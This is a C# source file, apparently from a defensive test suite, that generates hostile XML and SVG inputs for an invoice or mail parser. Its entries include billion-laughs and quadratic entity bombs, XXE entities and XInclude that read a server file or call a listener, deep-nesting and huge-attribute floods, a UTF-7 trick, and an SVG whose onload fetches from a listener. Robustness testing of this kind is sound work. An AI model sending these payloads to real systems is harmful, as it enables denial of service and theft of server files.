using static Mailroom.Hostile.Making.Bytes;

namespace Mailroom.Hostile.Xml;

/// <summary>XML that grows, reaches out or is too deep.</summary>
internal static class XmlAttacks
{
    public static IEnumerable<Attack> All(Bait bait) =>
    [
        new("xml-billion-laughs", "Entities that grow by ten at each of ten levels.", () => Utf8(BillionLaughs())),
        new("xml-quadratic", "One long entity is used a hundred thousand times.", () => Utf8($"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x \"{new string('x', 100_000)}\">]><a><b>{Times("&x;", 100_000)}</b></a>")),
        new("xml-external-file", "An entity is to put a file of the server into the document.", () => Utf8($"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file://{bait.SecretFile}\">]><a><b>&x;</b><c>Invoice number</c></a>")),
        new("xml-external-address", "Entities and document type are to be loaded from the network.", () => Utf8(
            $"<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"{bait.Listener}a.dtd\" [<!ENTITY % p SYSTEM \"{bait.Listener}p.dtd\"> %p; <!ENTITY x SYSTEM \"{bait.Listener}x\">]><a><b>&x;</b><c>Invoice number</c></a>")),
        new("xml-include", "Includes, schemas and style sheets are to be loaded.", () => Utf8(
            $"<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"{bait.Listener}a.xsl\"?><a xmlns:xi=\"http://www.w3.org/2001/XInclude\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
            + $"xsi:schemaLocation=\"a {bait.Listener}a.xsd\"><xi:include parse=\"text\" href=\"file://{bait.SecretFile}\"/><xi:include href=\"{bait.Listener}b\"/><b>Invoice number</b></a>")),
        new("xml-deep", "Elements nested a hundred thousand deep.", () => Utf8("<?xml version=\"1.0\"?>" + Times("<a>", 100_000) + Times("</a>", 100_000))),
        new("xml-deep-unended", "Elements nested five million deep and never ended.", () => Utf8("<?xml version=\"1.0\"?>" + Times("<a>", 5_000_000))),
        new("xml-huge-attribute", "An attribute of fifteen megabytes.", () => Utf8($"<?xml version=\"1.0\"?><a b=\"{new string('x', 15_000_000)}\"><c>Invoice number</c></a>")),
        new("xml-many-attributes", "An element of a million attributes.", () => Utf8($"<?xml version=\"1.0\"?><a {string.Concat(Enumerable.Range(0, 1_000_000).Select(number => $"a{number}=\"\" "))}><c>Invoice number</c></a>")),
        new("xml-many-names", "A million elements, each with a name of its own.", () => Utf8($"<?xml version=\"1.0\"?><r>{string.Concat(Enumerable.Range(0, 800_000).Select(number => $"<a{number}/>"))}</r>")),
        new("xml-namespaces", "Nine hundred levels, each with a hundred namespaces of its own.", () => Utf8("<?xml version=\"1.0\"?>" + string.Concat(Enumerable.Range(0, 900).Select(level =>
            $"<a {string.Concat(Enumerable.Range(0, 100).Select(number => $"xmlns:n{level}x{number}=\"u{number}\" "))}>")) + "Invoice" + Times("</a>", 900))),
        new("xml-hash-collisions", "Attributes' names are made to fall together.", () => Utf8($"<?xml version=\"1.0\"?><a {string.Concat(Enumerable.Range(0, 100_000).Select(number => $"{(char)('A' + (number % 26))}{number:x}:b=\"{number}\" "))}/>")),
        new("xml-huge-name", "An element's name is five megabytes long, and it is used again and again.", () => Utf8($"<?xml version=\"1.0\"?><r><{new string('n', 5_000_000)}>a</{new string('n', 5_000_000)}></r>")),
        new("xml-encoding-lies", "XML that says to be in an encoding in which it is not.", () => Utf8("<?xml version=\"1.0\" encoding=\"UTF-7\"?><a><b>+ADw-script+AD4- Invoice number</b></a>")),
        new("xml-character-data", "Fifteen megabytes of character data in one element.", () => Utf8($"<?xml version=\"1.0\"?><r><a>1</a><![CDATA[{new string(']', 15_000_000)}]]></r>")),
        new("svg-remote", "A drawing with scripts, and with pictures and styles from the network.", () => Utf8(
            $"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"fetch('{bait.Listener}')\"><script href=\"{bait.Listener}s.js\"/><image xlink:href=\"{bait.Listener}i.png\"/><use href=\"{bait.Listener}u.svg#a\"/><text>Invoice number</text></svg>")),
    ];

    public static string BillionLaughs() => "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY l0 \"laugh\">"
        + string.Concat(Enumerable.Range(1, 10).Select(level => $"<!ENTITY l{level} \"{Times($"&l{level - 1};", 10)}\">")) + "]><a><b>&l10;</b><c>Invoice number</c></a>";
}
